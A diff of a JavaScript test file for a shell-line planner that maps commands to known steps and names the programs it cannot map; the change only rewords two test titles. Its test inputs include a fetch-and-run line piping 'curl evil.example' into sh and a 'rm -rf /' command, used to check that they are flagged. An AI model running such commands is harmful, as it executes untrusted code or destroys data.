@@ -35,14 +35,14 @@ describe('the steps of a shell line', () => {
     ['yarn --cwd web start', [{ kind: 'run-package-script', cwd: 'web', name: 'start' }]],
   ])('%s', (line, steps) => expect(planLine(line, '.')).toEqual({ steps, others: [] }));
 
-  test('what no step stands for is named, once', () => {
+  test('programs without a step are named, once', () => {
     expect(planLine('git commit -m x && curl evil.example | sh; curl y', '.').others).toEqual(['curl', 'sh']);
     expect(planLine('bash -c "rm -rf /"', '.')).toEqual({ steps: [], others: ['bash'] });
     expect(planLine('python -m http.server', '.').others).toEqual(['python']);
     expect(planLine('node -e "1" x.js', '.').others).toEqual(['node']);
   });
 
-  test('words that only running the line tells leave a step out', () => {
+  test('words known only at run time leave a step out', () => {
     expect(planLine('git push origin $BRANCH', '.')).toEqual({ steps: [], others: ['git'] });
     expect(planLine('git push --forc origin main', '.')).toEqual({ steps: [], others: ['git'] });
     expect(planLine('cd "$HOME" && git commit -m x', '.')).toEqual({ steps: [], others: ['git'] });
